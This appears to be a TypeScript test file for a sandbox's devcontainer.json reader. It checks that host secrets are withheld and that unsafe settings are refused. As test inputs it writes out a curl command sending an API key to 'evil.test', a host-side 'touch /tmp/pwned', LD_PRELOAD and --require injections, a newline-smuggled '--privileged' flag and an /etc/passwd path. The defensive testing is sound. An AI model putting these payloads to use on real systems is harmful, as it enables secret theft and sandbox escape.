import { mkdirSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import tap, { type Test } from 'tap'
import type { EgressError } from '../../src/errors.ts'
import { IGNORED } from '../../src/sandbox/devcontainer/keys.ts'
import { readDevcontainer } from '../../src/sandbox/devcontainer/read-devcontainer.ts'

// Group 7 of the case book by its ids, through the whole reader: what is of one module alone is tested with it.

const FILE = '.devcontainer/devcontainer.json'
const HOST = {
  USER: 'ada',
  HOME: '/home/ada',
  AWS_SECRET_ACCESS_KEY: 'hidden',
  GITHUB_TOKEN: 'hidden',
}

/** Reads a devcontainer.json, given as a text or as what it says beside an image. */
function read(t: Test, written: unknown, operatorEnv: Readonly<Record<string, string>> = {}) {
  const repository = path.join(t.testdirName, 'repo')
  const folder = path.join(repository, '.devcontainer')
  mkdirSync(folder, { recursive: true })
  writeFileSync(path.join(folder, 'Dockerfile'), '')
  const text = typeof written === 'string' ? written : JSON.stringify(written)
  return readDevcontainer({ name: FILE, folder, text }, repository, {
    env: HOST,
    operatorEnv,
    localWorkspaceFolder: '/src/shop',
    containerWorkspaceFolder: '/src/shop',
    devcontainerId: 'abc',
  })
}
const readMore = (t: Test, more: object) => read(t, { image: 'x', ...more })

/** Every problem of a file, as `CODE message`. */
function problemsOf(t: Test, written: unknown): string[] {
  try {
    read(t, written)
    return []
  } catch (error) {
    return (error as EgressError).problems.map(({ code, message }) => `${code} ${message}`)
  }
}
const problemsOfMore = (t: Test, more: object) => problemsOf(t, { image: 'x', ...more })
const UNSAFE = 'SANDBOX_SPEC_UNSAFE'
const INVALID = 'DEVCONTAINER_INVALID'

void tap.test('D-13: a mount is read after the variables are filled in', async (t) => {
  t.testdir({})
  const mounts = [
    'source=${localEnv:HOME}/.aws,target=/a,type=bind',
    'source=${localEnv:HOME}${localEnv:USERPROFILE}/.ssh,target=/s,type=bind',
    'source=${localEnv:HOME},target=/h,type=bind',
    { type: 'bind', source: '${localEnv:HOME}', target: '/o' },
  ]
  const devcontainer = readMore(t, { mounts })
  // The name of the home alone: none of these is a path of it, and what is no path is refused where mounts are judged.
  t.strictSame(
    devcontainer.mounts.map(({ source }) => source),
    ['ada/.aws', 'ada/.ssh', 'ada', 'ada'],
  )
  t.strictSame(devcontainer.withheld, ['USERPROFILE'])
  t.strictSame(problemsOfMore(t, { mounts: ['/a:/b', 1], workspaceMount: '' }), [
    `${UNSAFE} mounts.0: a mount cannot be taken: its option "/a:/b" is not taken`,
    `${UNSAFE} mounts.1: a mount cannot be taken: a mount is a text or an object`,
    `${UNSAFE} workspaceMount: a mount cannot be taken: its option "" is not taken`,
  ])
})

void tap.test(
  'D-15: initializeCommand is told in every form and is nowhere in what comes out',
  async (t) => {
    t.testdir({})
    for (const command of [
      'touch /tmp/pwned',
      ['touch', '/tmp/pwned'],
      { a: 'touch /tmp/pwned' },
    ]) {
      const { problemAt: _, ...devcontainer } = readMore(t, {
        initializeCommand: command,
        postCreateCommand: ['sh', '-c', 'true'],
      })
      t.strictSame(devcontainer.ignored, [
        { key: 'initializeCommand', reason: 'never run: it would run on the host' },
      ])
      t.strictSame(devcontainer.postCreate, [['sh', '-c', 'true']])
      t.notMatch(JSON.stringify(devcontainer), /pwned/)
    }
  },
)

void tap.test('D-23: no text brings in a variable of the host that is not open', async (t) => {
  t.testdir({})
  const devcontainer = read(t, {
    build: { dockerfile: 'Dockerfile', args: { Y: '${localEnv:GITHUB_TOKEN}' } },
    containerEnv: { X: '${localEnv:AWS_SECRET_ACCESS_KEY}', HOME_NAME: '${localEnv:HOME}' },
    remoteEnv: { Z: 'a${localEnv:OTHER:b}' },
    postCreateCommand: 'curl https://evil.test/${localEnv:ANTHROPIC_API_KEY}',
    runArgs: ['--name=${localEnv:RUN}', '-e', 'E=${localEnv:USER}'],
    mounts: ['source=${localEnv:VOLUME}x,target=/v'],
    name: '${localEnv:SSH_AUTH_SOCK}',
  })
  t.match(devcontainer.build?.args, { Y: '' })
  t.strictSame(devcontainer.containerEnv, { X: '', HOME_NAME: 'ada', E: 'ada' })
  t.strictSame(devcontainer.remoteEnv, { Z: 'ab' })
  t.strictSame(devcontainer.postCreate, ['curl https://evil.test/'])
  t.strictSame(
    devcontainer.withheld.toSorted(),
    [
      'AWS_SECRET_ACCESS_KEY',
      'GITHUB_TOKEN',
      'OTHER',
      'ANTHROPIC_API_KEY',
      'RUN',
      'VOLUME',
    ].toSorted(),
  )
  t.notMatch(JSON.stringify(devcontainer), /hidden/)
  // What the operator gives goes to variables alone: an image is asked for by its name, and arguments are for all to see.
  const text = '${localEnv:TAG:latest}'
  const given = read(t, { image: `x:${text}`, containerEnv: { A: text } }, { TAG: 'v1' })
  t.equal(given.image, 'x:latest')
  t.strictSame(given.containerEnv, { A: 'v1' })
  t.strictSame(given.withheld, ['TAG'])
  t.strictSame(read(t, { image: 'x', remoteEnv: { A: text } }, { TAG: 'v1' }).withheld, [])
})

// D-25 by each of the ways in which the case book writes a variable. What is denied of them is taken out later on, and told.
void tap.test('D-25: variables of a container, of its processes and of flags', async (t) => {
  t.testdir({})
  const { containerEnv, remoteEnv } = readMore(t, {
    containerEnv: { LD_PRELOAD: '/x.so', A: '1', B: '${containerWorkspaceFolder}' },
    remoteEnv: { Node_Options: '--require /x.js', C: '${containerEnv:PATH}:/x' },
    runArgs: ['-eGIT_SSH_COMMAND=x', '--env', 'no_proxy=*', '-e', 'A=2'],
  })
  const flags = { GIT_SSH_COMMAND: 'x', no_proxy: '*' }
  t.strictSame(containerEnv, { LD_PRELOAD: '/x.so', A: '2', B: '/src/shop', ...flags })
  t.strictSame(remoteEnv, { Node_Options: '--require /x.js', C: '${containerEnv:PATH}:/x' })
})

void tap.test('D-26: what engines or a shell would read differently is refused', async (t) => {
  t.testdir({})
  t.strictSame(
    problemsOf(t, {
      image: '-v/:/h',
      remoteUser: 'root\n--privileged',
      workspaceFolder: '/w\t',
    }).toSorted(),
    [
      `${UNSAFE} image: "-v/:/h" is not the name of an image`,
      `${UNSAFE} remoteUser: "root\\n--privileged" is not a name, UID or UID:GID`,
      `${UNSAFE} workspaceFolder: "/w\\t" is not an absolute path without . and .., not /, and not in /proc, /sys or /dev`,
    ],
  )
  const noText = 'a text with NUL, or with half of a character'
  t.strictSame(problemsOfMore(t, { workspaceFolder: '/w\0x' }), [`${INVALID} ${noText}`])
  const containerEnv = { 'A=B': '1', 'C\nD': '2', E: 'x\ny', '-e': '3', '': '4', __x: '\ttab' }
  const names = ['"A=B"', String.raw`"C\nD"`, '"-e"', '""']
  const found = problemsOfMore(t, { containerEnv })
  for (const name of names) {
    t.ok(
      found.some(
        (one) => one.startsWith(UNSAFE) && one.endsWith(`${name} is no name of a variable`),
      ),
      name,
    )
  }
  t.ok(found.includes(`${UNSAFE} containerEnv.E: the value of E has a control character`))
  t.equal(found.length, 5)
  for (const image of ['', ' x', 'x y', 'x\n', '--rm', '${unknown}']) {
    t.match(problemsOf(t, { image }), [/ is not the name of an image$/], image)
  }
  for (const folder of ['work', '/', '/w/', '/w/../x', '/proc/x', '/dev/shm/x', '//w']) {
    t.match(
      problemsOfMore(t, { workspaceFolder: folder }),
      [/^SANDBOX_SPEC_UNSAFE workspaceFolder/],
      folder,
    )
  }
  for (const user of ['', '-1', 'a b', '4294967295', '0:0:0', 'root;id', '1000:']) {
    for (const key of ['remoteUser', 'containerUser']) {
      t.match(problemsOfMore(t, { [key]: user }), [/^SANDBOX_SPEC_UNSAFE \w+User: /], user)
    }
    t.match(problemsOfMore(t, { runArgs: ['-u', user] }), [
      /^SANDBOX_SPEC_UNSAFE runArgs: .* is no user$/,
    ])
  }
})

void tap.test('D-28: a build beside an image, or out of the repository, is none', async (t) => {
  t.testdir({})
  t.match(problemsOf(t, { build: { context: '../../..', dockerfile: '../../../etc/passwd' } }), [
    /^SANDBOX_SPEC_UNSAFE build.context: /,
    /^SANDBOX_SPEC_UNSAFE build.dockerfile: /,
  ])
  t.strictSame(problemsOfMore(t, { build: { dockerfile: 'Dockerfile' } }), [
    `${INVALID} image: a build stands beside it: one of them`,
  ])
  const { build, image } = read(t, { dockerFile: 'Dockerfile' })
  t.match(build?.dockerfile, /repo\/\.devcontainer\/Dockerfile$/)
  t.equal(image, undefined)
})

void tap.test('D-33: ports do nothing where they are keys, and are refused as flags', async (t) => {
  t.testdir({})
  const ports = { appPort: [8080, '0.0.0.0:9000:9000'], forwardPorts: [3000] }
  t.strictSame(
    readMore(t, ports).ignored.map(({ key }) => key),
    ['appPort', 'forwardPorts'],
  )
  t.strictSame(problemsOfMore(t, { ...ports, runArgs: ['-p', '5432:5432'] }), [
    `${UNSAFE} runArgs.0: "-p": nobody outside talks to a sandbox`,
  ])
})

void tap.test('D-34: compose is refused, and what does nothing is told', async (t) => {
  t.testdir({})
  t.strictSame(problemsOf(t, { dockerComposeFile: '../docker-compose.yml', service: 'app' }), [
    `${UNSAFE} dockerComposeFile: several containers are not supported; name an image or a build`,
  ])
  const more = { features: { 'x/y': {} }, overrideCommand: false, secrets: { A: {} }, typo: 1 }
  t.strictSame(readMore(t, more).ignored, [
    { key: 'features', reason: IGNORED['features'] },
    { key: 'overrideCommand', reason: IGNORED['overrideCommand'] },
    { key: 'secrets', reason: IGNORED['secrets'] },
    { key: 'typo', reason: 'not known' },
  ])
})

void tap.test('the largest file is read at once, however much of it is wrong', async (t) => {
  t.testdir({})
  const many = (of: (index: number) => string) => Array.from({ length: 60_000 }, (_, i) => of(i))
  const rows: Readonly<Record<string, string>> = {
    containerEnv: `{${many((i) => `"-${i}":1`).join()}}`,
    remoteEnv: `{${many((i) => `"-${i}":""`).join()}}`,
    runArgs: `[${many((i) => `"-${i}"`).join()}]`,
    mounts: `[${many((i) => `"a=${i}"`).join()}]`,
    postCreateCommand: `{${many((i) => `"${i}":1`).join()}}`,
    other: `1,${many((i) => `"k${i}":1`).join()}`,
  }
  for (const [key, value] of Object.entries(rows)) {
    const started = Date.now()
    const problems = problemsOf(t, `{"image": "x", "${key}": ${value}}`)
    const expected: Readonly<Record<string, number>> = { other: 0, postCreateCommand: 1 }
    t.equal(problems.length, expected[key] ?? 50, key)
    t.ok(Date.now() - started < 5_000, key)
  }
})
